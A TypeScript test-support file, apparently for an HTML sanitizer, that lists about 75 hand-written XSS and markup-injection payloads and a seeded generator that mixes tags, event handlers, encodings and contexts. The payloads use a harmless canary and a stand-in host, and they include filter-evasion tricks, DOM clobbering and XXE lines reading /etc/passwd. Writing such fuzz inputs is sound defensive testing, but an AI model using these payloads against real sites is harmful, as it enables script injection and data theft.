import { ADDRESSES, CONTEXTS, HANDLERS, SCRIPTS, TAGS } from '#core/formats/testing/markup-parts'
import { type Draw, drawFrom } from '#core/formats/testing/numbers'

const CANARY = SCRIPTS[0]

/** Attacks that no grammar makes: parsers that disagree, names that shadow, styles, redirections. */
const BY_HAND = [
  '<script>__pwn=1</script>',
  '<SCRIPT SRC=https://pwn.invalid/x.js></SCRIPT>',
  '<script/x>__pwn=1</script/y>',
  '<<script>__pwn=1//<</script>',
  '<scr<script>ipt>__pwn=1</scr</script>ipt>',
  '<script>/*<!--*/__pwn=1//--></script>',
  '<script type=module>import "https://pwn.invalid/x.js"</script>',
  '<script type=importmap>{"imports":{"react":"https://pwn.invalid/x.js"}}</script>',
  '<svg><script href="data:text/javascript,__pwn=1"/>',
  '<svg><script>__pwn&equals;1</script></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=__pwn=1>#x">',
  '<svg><animate xlink:href=#a attributeName=href values=javascript:__pwn=1 /><a id=a><text x=20 y=20>x',
  '<svg><set attributeName=onmouseover to=__pwn=1>',
  '<math href="javascript:__pwn=1">x</math>',
  '<math><maction actiontype="statusline#https://pwn.invalid" xlink:href="javascript:__pwn=1">x',
  '<iframe srcdoc="<script>parent.__pwn=1</script>">',
  '<iframe srcdoc="&lt;img src=x onerror=parent.__pwn=1&gt;">',
  '<object data="data:text/html,<script>parent.__pwn=1</script>">',
  '<embed src="javascript:__pwn=1">',
  '<meta http-equiv=refresh content="0;url=javascript:__pwn=1">',
  '<meta http-equiv=refresh content="0;https://pwn.invalid/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<base href="https://pwn.invalid/">',
  '<link rel=stylesheet href=https://pwn.invalid/x.css>',
  '<link rel=preload as=image href=https://pwn.invalid/x>',
  '<link rel=prefetch href=https://pwn.invalid/x>',
  '<link rel=dns-prefetch href=//pwn.invalid>',
  '<link rel=import href="data:text/html,<script>__pwn=1</script>">',
  '<style>@import "https://pwn.invalid/x.css";*{background:url(https://pwn.invalid/y)}</style>',
  '<style>@keyframes x{}</style><xss-x style="animation-name:x" onanimationend="__pwn=1">',
  '<div style="background:url(https://pwn.invalid/x);width:expression(__pwn=1);-moz-binding:url(//pwn.invalid)">',
  '<img src=https://pwn.invalid/x srcset="https://pwn.invalid/y 2x">',
  '<img src=x:x onerror\u000b=__pwn=1>',
  '<img """><script>__pwn=1</script>">',
  '<img src="x` `<script>__pwn=1</script>"` `>',
  '<img src onerror=&#x5f;&#x5f;pwn=1>',
  '<image src=x onerror=__pwn=1>',
  '<picture><source srcset=https://pwn.invalid/x><img>',
  '<video poster=https://pwn.invalid/x src=https://pwn.invalid/y autoplay>',
  '<body background=https://pwn.invalid/x>',
  '<table background="javascript:__pwn=1"><td background="https://pwn.invalid/x">',
  '<input type=image src=https://pwn.invalid/x>',
  '<form action=javascript:__pwn=1><input type=submit autofocus>',
  '<button form=f formaction=javascript:__pwn=1>x</button><form id=f>',
  '<form id=document><input name=body><input name=cookie></form>',
  '<a id=defaultView><a id=defaultView name=zhupi href="javascript:__pwn=1">',
  '<img name=createElement><img name=querySelector><img name=getElementById>',
  '<form id=root><input id=root name=attributes></form>',
  '<div id=root></div><div id="__proto__"></div>',
  '<template shadowrootmode=open><img src=x onerror=__pwn=1></template>',
  '<a href="javascript:__pwn=1" target=_blank ping=https://pwn.invalid/p>x</a>',
  '<a href=app://zhupi/../../etc/passwd>x</a>',
  '<area href=javascript:__pwn=1 shape=default>',
  '<x onclick=__pwn=1 autofocus tabindex=1 id=x>#x',
  '<details open ontoggle=__pwn=1>',
  '<select autofocus onfocus=__pwn=1>',
  '<noscript><p title="</noscript><img src=x onerror=__pwn=1>">',
  '<math><mi//xlink:href="data:x,<script>__pwn=1</script>">',
  '<![CDATA[<script>__pwn=1</script>]]>',
  '<?xml-stylesheet href="javascript:__pwn=1"?>',
  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  '<!DOCTYPE x [<!ENTITY y "<script>__pwn=1</script>">]>&y;',
  '<html manifest=https://pwn.invalid/x>',
  '+ADw-script+AD4-__pwn=1+ADw-/script+AD4-',
  '\u3008script\u3009__pwn=1\u3008/script\u3009',
  '＜script＞__pwn=1＜/script＞',
  '<\u0000script>__pwn=1</\u0000script>',
  '<scri\u0000pt>__pwn=1</scri\u0000pt>',
  '\u202e<script>__pwn=1</script>\u202c',
  '[x](javascript:__pwn=1)',
  '![x](https://pwn.invalid/x)',
  '<javascript:__pwn=1>',
  '[x]: javascript:__pwn=1\n[x]',
  '`</code><img src=x onerror=__pwn=1>`',
] as const

const QUOTES = ['"', "'", '', '`'] as const
const GAPS = [' ', '/', '\n', '\t', '\f', ' / ', '\u000b', '\u00a0'] as const

const upDown = (text: string): string => [...text].map((c, i) => (i % 2 ? c.toUpperCase() : c)).join('')
const decimal = (text: string): string => [...text].map((c) => `&#${c.codePointAt(0) ?? 0};`).join('')
const hexadecimal = (text: string): string => [...text].map((c) => `&#x${(c.codePointAt(0) ?? 0).toString(16).padStart(6, '0')}`).join('')
const escapes = (text: string): string =>
  [...text].map((c) => (/[a-z]/.test(c) ? `\\u${(c.charCodeAt(0) | 0).toString(16).padStart(4, '0')}` : c)).join('')
const nothing = (text: string): string => text

const SPELLINGS = [nothing, decimal, hexadecimal, escapes] as const
const CASES = [nothing, upDown, (text: string) => text.toUpperCase()] as const
const ENDS = ['>', '/>', '', '>x</', '//>', ' <!--'] as const
const ADDRESS_ATTRIBUTES = ['src', 'href', 'xlink:href', 'data', 'action', 'formaction', 'poster', 'srcdoc', 'background', 'style'] as const

const withHandler = (tag: string, handler: string, script: string): string => `<${tag} src=x ${handler}="${script}" autofocus tabindex=1>`

/** Every tag with a handler, every handler, every address in every tag that takes one, every context: the same list each time. */
export function listedMarkup(): readonly string[] {
  const tags = TAGS.flatMap((tag) => ['onload', 'onerror', 'onfocus', 'onmouseover'].map((handler) => withHandler(tag, handler, CANARY)))
  const handlers = HANDLERS.flatMap((handler) => ['svg', 'img', 'body', 'div', 'video'].map((tag) => withHandler(tag, handler, CANARY)))
  const addresses = ADDRESSES.flatMap((address) =>
    ADDRESS_ATTRIBUTES.map((name) => `<a ${name}="${address}">x</a><img ${name}='${address}'>`),
  )
  const placed = CONTEXTS.flatMap((context) => [...SCRIPTS.map((script) => context.replace('$', () => `<img src=x onerror=${script}>`))])
  return [...new Set([...BY_HAND, ...tags, ...handlers, ...addresses, ...placed])]
}

function attribute(draw: Draw): string {
  const quote = draw.of(QUOTES)
  return draw.below(2) === 0
    ? `${draw.of(CASES)(draw.of(HANDLERS))}=${quote}${draw.of(SPELLINGS)(draw.of(SCRIPTS))}${quote}`
    : `${draw.of(CASES)(draw.of(ADDRESS_ATTRIBUTES))}=${quote}${draw.of(ADDRESSES)}${quote}`
}

function attack(draw: Draw, depth: number): string {
  const attributes = Array.from({ length: 1 + draw.below(3) }, () => draw.of(GAPS) + attribute(draw)).join('')
  const tag = `<${draw.of(CASES)(draw.of(TAGS))}${attributes}${draw.of(ENDS)}`
  const own = draw.below(8) === 0 ? draw.of(BY_HAND) : tag
  const inside = depth > 0 && draw.below(2) === 0 ? attack(draw, depth - 1) : ''
  return draw.of(CONTEXTS).replace('$', () => own + inside)
}

/** Attacks of the grammar above, up to four inside each other; equal seeds give equal attacks. */
export function generatedMarkup(count: number, seed: number): readonly string[] {
  const draw = drawFrom(seed)
  return Array.from({ length: count }, () => attack(draw, 3))
}
